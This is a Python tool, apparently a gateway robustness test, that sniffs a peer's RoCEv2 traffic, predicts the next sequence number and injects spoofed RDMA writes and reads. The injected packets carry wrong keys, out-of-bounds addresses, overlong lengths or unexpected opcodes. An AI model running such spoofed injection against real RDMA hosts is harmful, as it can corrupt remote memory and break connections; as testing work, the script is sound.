"""Forges the next RoCEv2 packet of a gateway's peer, as somebody could who sees all before it.

    forge_next.py INTERFACE SOURCE DESTINATION [NAMESPACE ADDRESS]

What SOURCE sends to DESTINATION is looked at on INTERFACE, of the host that has SOURCE. For each line of standard
input, the name of a forgery, one packet is sent when SOURCE is silent: to the queue pair that SOURCE has written by last, with
the number that its next packet will have. With NAMESPACE it is sent from there, and comes from ADDRESS.
"""

import ctypes
import random
import select
import socket
import struct
import sys

from forge import PAYLOAD, Packet, is_template

CLOSED_PORT = 9
PATIENCE_S = 300
SILENCE_S = 0.1

WRITE_MIDDLE, WRITE_ONLY, READ = 0x07, 0x0A, 0x0C
REQUESTS = range(0x11)
TARGET_LEN = 16

# Longer than any region.
BEYOND = 1 << 30


def target(packet):
    """Where a write goes: address, key, length."""
    return struct.unpack_from("!QII", packet.data, PAYLOAD)


def set_target(packet, address, key, length):
    struct.pack_into("!QII", packet.data, PAYLOAD, address, key, length)


def key(packet):
    """Into no region."""
    address, right, length = target(packet)
    set_target(packet, address, right ^ 0x100, length)


def beyond(packet):
    """By the right key, outside of its region."""
    address, right, length = target(packet)
    set_target(packet, address + BEYOND, right, length)


def before(packet):
    """The same, on the other side."""
    address, right, length = target(packet)
    set_target(packet, (address - BEYOND) % (1 << 64), right, length)


def length(packet):
    """More than is there."""
    address, right, was = target(packet)
    set_target(packet, address, right, was + 4)


def middle(packet):
    """Of a write that has not begun."""
    packet.set_opcode(WRITE_MIDDLE)
    packet.set_body(packet.body()[TARGET_LEN:])


def read(packet):
    """What SMC-R never asks for."""
    packet.set_opcode(READ)
    packet.set_body(packet.body()[:TARGET_LEN])


def right(_):
    """As the peer could have sent it: its last bytes once more."""


FORGERIES = {act.__name__: act for act in (key, beyond, before, length, middle, read, right)}


class Watch:
    """What is known of the sender: its last write, and the next number of each queue pair."""

    def __init__(self):
        self.write = None
        self.following = {}

    def note(self, packet):
        if packet.opcode() not in REQUESTS:
            return
        number = int.from_bytes(packet.data[PAYLOAD - 3 : PAYLOAD], "big")
        behind = (number + 1 - self.following.get(packet.queue_pair(), number)) % (1 << 24)
        # What is sent again leads to nothing new.
        if behind < 1 << 23:
            self.following[packet.queue_pair()] = (number + 1) % (1 << 24)
        if packet.opcode() == WRITE_ONLY:
            self.write = packet

    def next_write(self):
        packet = Packet(self.write.data)
        at = PAYLOAD - 3
        packet.data[at:PAYLOAD] = self.following[packet.queue_pair()].to_bytes(3, "big")
        return packet


def sender_from(namespace, destination):
    if namespace:
        with open(f"/run/netns/{namespace}") as file:
            if ctypes.CDLL(None, use_errno=True).setns(file.fileno(), 0) != 0:
                raise OSError(ctypes.get_errno(), "setns")
    # What is sent from there arrives: a closed port says so.
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.settimeout(PATIENCE_S)
        probe.connect((destination, CLOSED_PORT))
        probe.send(b"?")
        try:
            sys.exit(f"{probe.recv(1)!r} from a closed port")
        except ConnectionRefusedError:
            pass
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def main():
    interface, source, destination, *stranger = sys.argv[1:]
    namespace, address = stranger or (None, source)
    ends = socket.inet_aton(source) + socket.inet_aton(destination)
    # ETH_P_ALL: what leaves is seen, too.
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sniffer.bind((interface, 0))
    sender, watch, forgery = sender_from(namespace, destination), Watch(), None
    print("ready", flush=True)
    while True:
        waits_for = [sniffer] if forgery else [sniffer, sys.stdin]
        ready, _, _ = select.select(waits_for, [], [], SILENCE_S)
        if sniffer in ready:
            frame = sniffer.recv(1 << 16)
            if is_template(frame, ends):
                watch.note(Packet(frame[14:]))
        elif sys.stdin in ready:
            forgery = sys.stdin.readline().strip()
            if not forgery:
                return
        elif forgery and watch.write:
            packet = watch.next_write()
            FORGERIES[forgery](packet)
            packet.data[12:16] = socket.inet_aton(address)
            # The kernel would choose another identification than the ICRC counts with.
            struct.pack_into("!H", packet.data, 4, random.randrange(1, 1 << 16))
            sender.sendto(packet.seal(), (destination, 0))
            print("forged", forgery, flush=True)
            forgery = None


if __name__ == "__main__":
    main()
